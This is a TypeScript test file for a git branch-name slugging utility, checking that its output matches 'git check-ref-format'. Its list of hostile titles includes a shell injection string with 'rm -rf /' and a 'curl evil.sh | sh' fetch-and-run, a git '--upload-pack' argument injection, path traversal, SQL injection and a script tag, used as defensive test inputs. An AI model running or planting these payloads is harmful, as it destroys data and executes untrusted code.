import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { slugBranch, slugify, isValidBranchName } from '../../src/git/index.ts';
import { UserError } from '../../src/errors.ts';

function gitAccepts(name: string): boolean {
  try {
    execFileSync('git', ['check-ref-format', '--branch', name], {
      stdio: 'pipe',
      cwd: tmpdir(),
      env: { PATH: process.env.PATH, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
    });
    return true;
  } catch {
    return false;
  }
}

const HOSTILE_TITLES = [
  'Add /health endpoint',
  '$(rm -rf /); `curl evil.sh | sh` && echo pwned',
  'line one\nline two\r\nthird\0nul',
  '../../etc/passwd',
  '--upload-pack=touch /tmp/x',
  '-x',
  'refs/heads/main',
  'a..b @{upstream} ~1 ^2 :colon ?q *star [br] \\back',
  'foo.lock',
  '.hidden',
  'Ünïcödé façade — naïve café',
  '修复登录错误',
  '🔥🔥🔥',
  '',
  '    ',
  'HEAD',
  '@',
  'x'.repeat(500),
  'word '.repeat(60),
  'Fix the thing\u202Eevil\u200Bhidden',
  "'; DROP TABLE users; --",
  '<script>alert(1)</script>',
];

test('slugBranch: hostile titles give valid, [a-z0-9-] names that git accepts', () => {
  for (const title of HOSTILE_TITLES) {
    const name = slugBranch('backend-developer/', 42, title);
    assert.match(name, /^backend-developer\/42(-[a-z0-9]+(-[a-z0-9]+)*)?$/, `title ${JSON.stringify(title)} → ${name}`);
    const slug = name.slice('backend-developer/42'.length).replace(/^-/, '');
    assert.ok(slug.length <= 40, `slug too long: ${slug}`);
    assert.ok(gitAccepts(name), `git refuses ${name}`);
  }
});

test('slugBranch: readable slugs, transliterated accents, never empty', () => {
  assert.equal(slugBranch('agent/', 7, 'Add /health endpoint'), 'agent/7-add-health-endpoint');
  assert.equal(slugBranch('agent/', 7, 'Ünïcödé façade'), 'agent/7-unicode-facade');
  assert.equal(slugBranch('agent/', 7, '修复登录错误'), 'agent/7');
  assert.equal(slugBranch('agent/', 7, ''), 'agent/7');
  const long = slugBranch('', 3, 'implement the pagination of the users listing endpoint with cursors');
  assert.equal(long, '3-implement-the-pagination-of-the-users');
});

test('slugify cuts at a word boundary and never ends with a dash', () => {
  const s = slugify('aaaa bbbb cccc dddd eeee ffff gggg hhhh iiii jjjj');
  assert.ok(s.length <= 40);
  assert.doesNotMatch(s, /-$/);
  assert.equal(s, 'aaaa-bbbb-cccc-dddd-eeee-ffff-gggg-hhhh');
  assert.equal(slugify('x'.repeat(100)).length, 40);
});

test('slugBranch: a prefix with characters git refuses is cleaned; one git still refuses is a UserError', () => {
  assert.equal(slugBranch('bot name:/', 1, 'x'), 'bot-name-/1-x');
  assert.throws(() => slugBranch('-bad/', 1, 'x'), UserError);
  assert.throws(() => slugBranch('a//', 1, 'x'), UserError);
  assert.throws(() => slugBranch('.hidden/', 1, 'x'), UserError);
  assert.throws(() => slugBranch('p/', -1, 'x'), UserError);
});

test('isValidBranchName agrees with git check-ref-format --branch', () => {
  const names = [
    'main',
    'feature/x',
    'a.b',
    'a..b',
    'a/.b',
    'a.lock',
    'a.lock/b',
    'a/b.lock',
    '-a',
    'a-',
    'a/',
    '/a',
    'a//b',
    'a.',
    'a@{b',
    'a@b',
    'a b',
    'a~b',
    'a^b',
    'a:b',
    'a?b',
    'a*b',
    'a[b',
    'a\\b',
    'a\tb',
    'a\x7fb',
    'ü',
    'x/y/z',
    'backend-developer/12-add-health',
    '..',
    '.',
    'a/./b',
  ];
  for (const n of names) assert.equal(isValidBranchName(n), gitAccepts(n), `disagreement on ${JSON.stringify(n)}`);
  // Stricter than check-ref-format on purpose: `@` and `HEAD` are shorthands git resolves, never our branch names.
  assert.equal(isValidBranchName('@'), false);
  assert.equal(isValidBranchName('HEAD'), false);
});
